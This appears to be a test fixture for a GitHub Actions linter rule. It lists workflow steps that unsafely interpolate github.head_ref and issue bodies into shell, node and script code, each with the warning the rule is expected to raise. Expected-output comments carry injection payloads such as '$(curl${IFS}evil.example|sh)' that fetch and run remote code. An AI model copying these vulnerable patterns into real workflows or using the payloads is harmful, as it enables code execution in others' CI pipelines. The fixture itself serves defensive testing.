# --- .github/workflows/triage.yml
on: [issues, pull_request]
jobs:
  label:
    steps:
      - run: grep v <<< '${{ github.head_ref }}'  # expect: CIC004 "head_ref" "instead of the single quotes"
      - run: |
          echo "tag=$(grep v <<< '${{ github.head_ref }}')" # expect: CIC004 "head_ref" "instead of the single quotes"
          echo "$(date) '${{ github.head_ref }}'" # expect: CIC004 "head_ref" "$(curl${IFS}evil.example|sh)"
      - run: |
          # don't
          echo "it's" "${{ github.head_ref }}"  # expect: CIC004 "head_ref" "$(curl${IFS}evil.example|sh)"
          echo '${{ github.head_ref }}'  # expect: CIC004 "head_ref" "';curl${IFS}evil.example|sh;'"
      - run: |
          node -e "
            const branch = '${{ github.head_ref }}';  // expect: CIC004 "head_ref" "reads `BRANCH` from its environment"
          "
      - uses: actions/github-script@v7
        with:
          script: console.log('${{ github.event.issue.body }}')  # expect: CIC004 "into the script" "'+process.exit()+'"
